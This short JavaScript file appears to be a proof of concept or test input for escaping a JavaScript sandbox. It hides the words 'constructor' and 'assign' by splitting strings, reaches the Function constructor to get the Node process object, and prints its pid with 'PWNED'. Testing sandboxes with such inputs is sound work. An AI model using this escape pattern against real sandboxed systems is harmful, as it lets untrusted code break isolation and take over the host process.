'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const t = {};
const o = {};
t[w][['as', 'sign'].join('')](o, { go: (f) => f[w] });
console.log('PWNED', o.go(fn)('return process')().pid);
